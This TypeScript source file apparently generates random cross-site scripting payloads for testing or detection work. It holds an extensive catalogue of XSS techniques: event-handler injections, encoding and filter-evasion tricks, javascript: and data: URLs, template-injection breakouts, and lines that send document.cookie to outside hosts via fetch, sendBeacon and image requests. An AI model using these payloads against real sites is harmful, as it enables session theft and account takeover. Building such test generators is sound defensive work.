import type { RandomSource } from "./random-source.ts";

const TAGS = ["img", "svg", "body", "input", "iframe", "video", "audio", "details", "div", "a", "p", "b", "button", "select", "textarea", "marquee", "object", "embed", "form", "math", "style", "link", "isindex", "keygen", "x", "xss", "custom-tag", "table", "td", "span", "h1", "frameset", "bgsound", "image", "main", "section", "dialog", "meter", "label", "fieldset", "source", "track", "html", "noscript", "canvas", "li", "ul", "progress", "summary", "nav", "pre", "font", "center", "applet", "base", "frame"];
const EVENTS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onstart", "onpointerenter", "onpointerdown", "onanimationstart", "onanimationend", "ontransitionend", "onkeydown", "onkeyup", "onkeypress", "onchange", "oninput", "oninvalid", "onsubmit", "onreset", "onpageshow", "onhashchange", "onscroll", "onresize", "onwheel", "oncopy", "oncut", "onpaste", "ondrag", "ondrop", "ondragstart", "ondblclick", "oncontextmenu", "onmouseenter", "onmouseleave", "onmousemove", "onbeforeprint", "onbeforeunload", "onunload", "onplay", "oncanplay", "onloadstart", "onended", "onafterscriptexecute", "onbegin", "onend", "onrepeat", "onfinish", "onbounce", "onsearch", "ontouchstart", "onauxclick", "onfocusin", "onfocusout", "onloadedmetadata", "onpopstate", "onmessage", "onstorage", "onshow", "onscrollend", "onbeforetoggle", "onsecuritypolicyviolation", "onreadystatechange", "onpropertychange", "onfilterchange", "oncellchange", "ondataavailable", "onwebkitanimationstart"];

function sink(r: RandomSource): string {
  const n = r.pick(["1", "1", "document.cookie", "document.domain", "'xss'", '"x"', "/x/", "`1`", "origin", "0", String(r.int(1, 9999)), "/xss/.source", "location"]);
  return r.pick([
    `alert(${n})`, `alert(${n})`, `prompt(${n})`, `confirm(${n})`, `alert\`${r.int(1, 9)}\``, `eval(${r.pick(["name", "atob('YWxlcnQoMSk=')", "location.hash.slice(1)", "String.fromCharCode(97,108)"])})`, `(alert)(${n})`, `top['al'+'ert'](${n})`, `window["alert"](${n})`, `self[/*x*/'alert'](${n})`,
    `document.location='http://${r.name()}.com/?c='+document.cookie`, `fetch('//${r.name()}.io?'+document.cookie)`, `new Image().src='//${r.name()}.com/'+document.cookie`, `document.write('<img src=//${r.name()}.net/>')`, `window.open('//${r.name()}.com')`, `location='javascript:alert(1)'`, `location.href='//${r.name()}.com'`, `setTimeout('alert(1)',0)`, `setTimeout(alert,0)`, `[1].map(alert)`, `[8].find(confirm)`, `Function('alert(1)')()`, `new Function\`alert(1)\``, `[].constructor.constructor('alert(1)')()`, `import('//${r.name()}.com/x.js')`, `$.getScript('//${r.name()}.com')`, `throw onerror=alert,${n}`, `\\u0061lert(${n})`, `al\\x65rt(1)`, `a=alert,a(${n})`, `parent.postMessage('x','*')`, `console.log(document.cookie)`, `navigator.sendBeacon('//${r.name()}.com',document.cookie)`, `localStorage.getItem('token')`, `document.body.innerHTML='x'`, `print()`, `alert?.(1)`, `(()=>alert(1))()`, `Reflect.apply(alert,null,[1])`, `globalThis.alert(1)`, `window.location='//${r.name()}.com'`, `document.forms[0].action='//x.com'`, `document.getElementById('a').innerHTML=1`, `jQuery.globalEval('alert(1)')`, `onerror=alert;throw 1`, `with(document)alert(cookie)`, `open('javascript:alert(1)')`, `alert(String.fromCharCode(88,83,83))`, `eval('ale'+'rt(0)')`, `var i=new XMLHttpRequest();i.open('GET','//x');i.send()`,
  ]);
}

function scriptUrl(r: RandomSource): string {
  const scheme = r.pick(["javascript:", "javascript:", "JaVaScRiPt:", "java\tscript:", "java&#x0A;script:", "javascript&colon;", "&#106;avascript:", "vbscript:", " javascript:", "\u0001javascript:", "javascript://%0a", "javas&Tab;cript:", "livescript:"]);
  return r.pick([`${scheme}${sink(r)}`, `${scheme}${sink(r)}`, `${scheme}void(0);${sink(r)}`, `data:text/html,<script>${sink(r)}</script>`, "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", `${scheme}"<script>${sink(r)}</script>"`]);
}

function handlerTag(r: RandomSource): string {
  const tag = r.pick(TAGS);
  const gap = r.pick([" ", " ", " ", "/", "\t", "\n", "%0a", " x ", ' a="1" ', "//", " / ", "\f", "&nbsp;", "+"]);
  const attributes = r.pick(["", "", "src=x ", "src ", 'src="x" ', "open ", "autofocus ", "id=x tabindex=1 ", 'style="animation-name:x" ', "contenteditable ", "href=# ", "draggable=true ", "src=//x.y/z ", "type=image ", "class=a "]);
  const quote = r.pick(['"', "'", "", "", "`"]);
  const equals = r.pick(["=", "=", "=", " = ", "=\n", "&#61;", "= "]);
  const js = r.chance(0.1) ? scriptUrl(r) : sink(r);
  const close = r.pick([">", ">", ">", "/>", " >", `>x</${tag}>`, "//", "", " x=", "<", `></${tag}>`, "%0a>"]);
  return `<${tag}${gap}${attributes}${r.pick(EVENTS)}${equals}${quote}${js}${quote}${close}`;
}

function activeTag(r: RandomSource): string {
  const n = r.name();
  const js = sink(r);
  const url = scriptUrl(r);
  return r.pick([
    `<script>${js}</script>`, `<script>${js}</script>`, `<script src=//${n}.com/x.js></script>`, `<script/src="http://${n}.org/a.js"></script>`, `<script >${js}</script >`, `<script type="text/javascript">${js};</script>`, `<scr<script>ipt>${js}</scr</script>ipt>`, `<script>${js}//`, `<script src=data:,${js}></script>`, `<svg><script>${js}</script></svg>`, `<svg><script href="data:,${js}"/>`, `</script><script>${js}</script>`, `<script\n>${js}</script>`, `<script>/*x*/${js}/**/</script>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
    `<iframe src="${url}"></iframe>`, `<iframe srcdoc="<script>${js}</script>">`, `<iframe src=//${n}.com>`, `<iframe src="http://${n}.com/" width=0 height=0></iframe>`, `<object data="${url}">`, `<object data=//${n}.com/x.swf></object>`, `<embed src="${url}">`, `<embed src=//${n}.com/x.swf allowscriptaccess=always>`, `<base href="javascript:/a/">`, `<base href=//${n}.com>`, `<meta http-equiv="refresh" content="0;url=${url}">`, `<meta http-equiv=refresh content="0; url=http://${n}.com">`, `<link rel=stylesheet href="//${n}.com/x.css">`, `<link rel="import" href="data:text/html,x">`, `<style>@import'//${n}.com/x.css';</style>`, `<style>*{background:url(javascript:${js})}</style>`, `<style>body{x:expression(${js})}</style>`, `<div style="width:expression(${js})">`, `<div style="background-image:url(${url})">`, `<div style="-moz-binding:url(//${n}.com/x.xml#a)">`,
    `<a href="${url}">x</a>`, `<a href=${url}>click</a>`, `<a xlink:href="${url}"><rect/></a>`, `<form action="${url}"><input type=submit></form>`, `<button formaction="${url}">x</button>`, `<isindex action=${url} type=image>`, `<img src="${url}">`, `<img dynsrc="${url}">`, `<input type=image src="${url}">`, `<table background="${url}">`, `<body background="${url}">`, `<bgsound src="${url}">`, `<svg><animate attributeName=href values=${url} />`, `<svg><use href="data:image/svg+xml,x"/></svg>`, `<math><mi xlink:href="data:x,<script>${js}</script>">`, `<xml id=x><x>&lt;script&gt;${js}</x></xml>`, `<?xml version="1.0"?><html:script>${js}</html:script>`, `<!--<img src="--><img src=x onerror=${js}//">`, `<![CDATA[<script>${js}</script>]]>`, `<template><script>${js}</script></template>`, `<frameset onload=${js}>`, `<layer src=//${n}.com/x.js></layer>`, `<video><source onerror="${js}"></video>`, `<set attributeName=onmouseover to=${js}>`, `<svg><foreignObject><iframe onload=${js}>`, `<portal src=//${n}.com>`, `<applet code=javascript:${js}>`,
  ]);
}

function breakout(r: RandomSource): string {
  const js = sink(r);
  const url = scriptUrl(r);
  const tag = handlerTag(r);
  const active = `<script>${js}</script>`;
  const quote = r.pick(["'", '"', "", "`", "\\'", '\\"', "');", '");', "'}", "];"]);
  const end = r.pick(["//", "", "'", '"', ";//", "<!--", "/*", "+'", "-'", `;'`]);
  return r.pick([
    `${quote};${js};${end}`, `${quote};${js}//`, `${quote}-${js}-${quote}`, `${quote}+${js}+${quote}`, `${quote}*${js}*${quote}`, `${quote}|${js}|${quote}`, `\${${js}}`, `{${js}}`, `${quote} ${r.pick(EVENTS)}=${js} x=${quote}`, `${quote}${r.pick(EVENTS)}="${js}`, `x${quote} ${r.pick(EVENTS)}='${js}'`, `" autofocus onfocus=${js} "`, `${quote} style="x:expression(${js})`, `${quote}></script><script>${js}</script>`, `{{constructor.constructor('${js}')()}}`, `{{$on.constructor('${js}')()}}`, `{{[].pop.constructor('${js}')()}}`, `*/${js}/*`, `%0a${js}`, `</title><script>${js}</script>`, `</textarea>${tag}`, `</style><script>${js}</script>`, `-->${tag}`, `]]>${active}`, `'];${js};//`, `function x(){${js}}x()`, `javascript:${js}`, url, js, `<${js}>`, `var x='${quote};${js};`,
  ]);
}

/** A made-up cross-site scripting attempt. */
export function xssPayload(r: RandomSource): string {
  const kind = r.next();
  const core = kind < 0.4 ? handlerTag(r) : kind < 0.72 ? activeTag(r) : breakout(r);
  const isTag = core.startsWith("<");
  const lead = isTag && r.chance(0.35) ? r.pick(['">', "'>", '"/>', ">", '"><', "x'>", '"]>', "</p>", "--!>", "a", "</a>", '">>']) : "";
  const text = lead + core;
  if (r.chance(0.1)) return text.toUpperCase();
  return r.chance(0.08) ? [...text].map((c, i) => (i % 2 ? c.toUpperCase() : c)).join("") : text;
}
